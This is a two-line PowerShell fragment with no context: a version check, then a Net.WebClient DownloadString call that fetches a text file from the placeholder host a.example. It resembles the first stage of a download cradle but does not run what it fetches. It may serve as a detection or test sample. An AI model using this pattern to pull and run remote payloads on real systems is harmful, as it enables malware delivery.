if($PSVersionTable.PSVersion.Major -ge 3){$x=1}else{$x=2}
$c = New-Object Net.WebClient; $c.DownloadString('http://a.example/p/x.txt')